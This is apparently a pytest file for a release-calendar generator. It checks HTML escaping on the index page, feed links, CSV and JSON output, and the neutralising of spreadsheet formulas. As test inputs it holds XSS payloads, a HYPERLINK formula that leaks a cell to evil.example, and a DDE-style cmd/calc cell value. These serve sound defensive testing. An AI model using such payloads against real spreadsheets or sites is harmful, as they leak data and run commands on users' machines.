"""The index page and the data files a build writes beside the feeds."""

import csv
import datetime as dt
import io
import json
import re
from html.parser import HTMLParser

import pytest
from helpers import PROGRAMME, run_cli, write_schedules

from calendar_gen.pages import csv_lines, json_lines, render_index, spreadsheet_cell
from calendar_gen.releases import FIELDS, expand
from calendar_gen.schedule import load_programme
from calendar_gen.texts import describe

HOSTILE = """\
topic = "<b>Bold</b> & co"

[[publication]]
id = "hostile"
title = "<script>alert('x')</script> \\"quoted\\""
designation = "Official Statistics"
frequency = "bi-annual"
months = [5, 11]
day = "second tuesday"
description = "<img src=x onerror=alert(1)>"
"""


class Page(HTMLParser):
    """What a browser would see: elements, links and text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[tuple[str, str]] = []  # (class, href)
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        attributes = dict(attrs)
        if tag == "a":
            self.links.append((attributes.get("class") or "", attributes["href"]))

    def handle_data(self, data):
        self.text.append(data)


def page_for(tmp_path, settings="", topic=HOSTILE, as_of=dt.date(2014, 6, 1)):
    programme = load_programme(write_schedules(tmp_path, {"t": topic}, PROGRAMME + settings))
    releases = expand(programme, as_of=as_of)
    return render_index(programme, releases, programme.period, as_of), releases


def test_schedule_text_is_shown_as_text_never_run(tmp_path):
    text, _ = page_for(tmp_path)
    page = Page(text)
    assert "img" not in page.tags and "b" not in page.tags
    assert page.tags.count("script") == 1  # only the page's own link script
    shown = "".join(page.text)
    assert "<script>alert('x')</script> \"quoted\"" in shown
    assert "<b>Bold</b> & co" in shown


def test_links_use_feed_url(tmp_path):
    text, _ = page_for(tmp_path, 'feed_url = "https://stats.example.gov.uk/feeds/"\n')
    page = Page(text)
    assert ("subscribe", "webcal://stats.example.gov.uk/feeds/all.ics") in page.links
    assert ("download", "https://stats.example.gov.uk/feeds/all.ics") in page.links
    assert ("subscribe", "webcal://stats.example.gov.uk/feeds/t.ics") in page.links
    assert "script" not in page.tags
    assert not re.search(r"""(src|href)=["']?(https?:)?//(?!stats\.example)""", text)


def test_links_are_relative_without_feed_url(tmp_path):
    page = Page(page_for(tmp_path)[0])
    assert ("subscribe", "t.ics") in page.links and ("download", "t.ics") in page.links


def test_upcoming_first_with_counts(tmp_path):
    # As of 1 June 2014: 13 May is past; 11 November is to come.
    text, _ = page_for(tmp_path)
    assert "All releases</strong>: 1 upcoming release<br>" in text
    assert text.index("Tue 11 Nov 2014") < text.index("Tue 13 May 2014")
    assert text.index("Upcoming releases") < text.index("Past releases")


def with_history(tmp_path, topic: str):
    """Releases of `topic`, one of them moved with a reason that needs quoting."""
    folder = write_schedules(tmp_path, {"t": topic})
    (folder / "announcements.toml").write_text(
        '[[release]]\nid = "hostile"\nmonth = "2014-05"\ndate = 2014-05-14\n\n'
        '[[release.change]]\non = 2014-05-01\naction = "moved"\nfrom = 2014-05-13\n'
        'to = 2014-05-14\nreason = "late, \\"very\\" late;\\nsorry"\n'
    )
    return expand(load_programme(folder), as_of=dt.date(2014, 6, 1))


PLAIN = HOSTILE.replace('description = "<img src=x onerror=alert(1)>"\n', "")
WELSH = HOSTILE.replace("<img src=x onerror=alert(1)>", 'Ystadegau ŵyr, \\"dyfyniad\\"\\n😀')
# Cells a spreadsheet would run: a live link that leaks a neighbouring cell, and sums.
FORMULAS = """\
topic = "+1+1"

[[publication]]
id = "hostile"
title = "=HYPERLINK(\\"http://evil.example/?x=\\"&B3,\\"Click\\")"
designation = "Official Statistics"
frequency = "bi-annual"
months = [5, 11]
day = "second tuesday"
description = "@SUM(1+1)*cmd|' /C calc'!A0"
"""


@pytest.mark.parametrize("topic", [HOSTILE, PLAIN, WELSH, FORMULAS])
def test_data_files_are_what_the_csv_and_json_libraries_write(tmp_path, topic):
    releases = with_history(tmp_path, topic)
    assert releases[0].changes  # the moved release, with a reason to quote
    rows = [r.as_dict() for r in releases]
    # The library path: csv.writer and json.dumps over each release's as_dict(), every CSV
    # cell made safe for spreadsheets.
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(FIELDS)
    for release, row in zip(releases, rows, strict=True):
        cells = [*list(row.values())[:-1], "; ".join(describe(c) for c in release.changes)]
        writer.writerow([spreadsheet_cell(str(cell)) for cell in cells])
    assert "".join(csv_lines(releases)) == buffer.getvalue()
    lines = [json.dumps(row, ensure_ascii=False) for row in rows]
    assert "".join(json_lines(releases)) == "[\n" + ",\n".join("  " + x for x in lines) + "\n]\n"
    assert json.loads("".join(json_lines(releases))) == rows
    assert "".join(json_lines([])) == "[]\n"


def test_data_files_match_the_list_fields(tmp_path):
    _, releases = page_for(tmp_path)
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(releases)))))
    data = json.loads("".join(json_lines(releases)))
    assert tuple(rows[0]) == FIELDS == tuple(data[0])
    assert [r["date"] for r in rows] == [r["date"] for r in data] == ["2014-05-13", "2014-11-11"]
    assert rows[0]["title"] == "<script>alert('x')</script> \"quoted\""


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_spreadsheet_cell_neutralises_what_a_spreadsheet_would_run(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Crime 2014", "a=1", "'quoted", "Ŵyr"])
def test_spreadsheet_cell_leaves_other_text_alone(text):
    assert spreadsheet_cell(text) == text


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    releases = with_history(tmp_path, FORMULAS)
    (row, *_) = csv.DictReader(io.StringIO("".join(csv_lines(releases))))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?x="&B3,"Click")'
    assert row["topic_name"] == "'+1+1"
    assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["history"].startswith("Moved from")
    data = json.loads("".join(json_lines(releases)))
    assert data[0]["title"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet


def test_releases_csv_has_a_byte_order_mark_for_excel(tmp_path):
    write_schedules(tmp_path / "schedules", {"t": WELSH})
    assert run_cli("build", "--as-of", "2014-06-01", cwd=tmp_path).returncode == 0
    data = (tmp_path / "feeds" / "releases.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + ",".join(FIELDS).encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["description"].startswith("Ystadegau ŵyr")
    # Printed to a terminal or a pipe it has none: only a file opened by a spreadsheet needs it.
    listed = run_cli("list", "--format", "csv", cwd=tmp_path).stdout
    assert listed.startswith(",".join(FIELDS))
